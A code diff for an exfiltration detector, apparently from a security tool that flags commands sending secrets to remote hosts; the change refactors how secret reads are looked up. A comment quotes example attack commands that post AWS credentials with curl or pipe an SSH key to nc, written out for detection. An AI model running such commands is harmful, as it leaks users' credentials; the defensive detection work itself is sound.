@@ -1,7 +1,7 @@
 // Data leaving the machine after, or together with, a secret: the sequence gateways cannot see.
 import type { Detector, Finding } from '../detector.js';
 import { isAllowedHost, isLocalHost, type Egress } from '../command/egress.js';
-import { secretsRead } from '../session-state.js';
+import { secretsAmong } from '../facts.js';
 
 const where = (e: Egress) => `${e.host}${e.port !== undefined ? `:${e.port}` : ''}`;
 
@@ -12,9 +12,9 @@ export const exfiltration: Detector = {
     if (remote.length === 0) return [];
     const findings: Finding[] = [];
     // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
-    const inline = secretsRead(facts, ctx, event.id);
+    const inline = facts.secrets;
     const piped = facts.pipedToEgress.filter((p) => !isLocalHost(p.egress.host) && !isAllowedHost(p.egress.host, ctx.egressAllow))
-      .flatMap((p) => secretsRead({ ...facts, reads: p.paths }, ctx, event.id).map((s) => ({ s, e: p.egress })));
+      .flatMap((p) => secretsAmong(p.paths, ctx, event.id).map((s) => ({ s, e: p.egress })));
     const carried = inline.length > 0 ? inline.map((s) => ({ s, e: remote[0]! })) : piped;
     for (const { s, e } of carried) {
       findings.push({
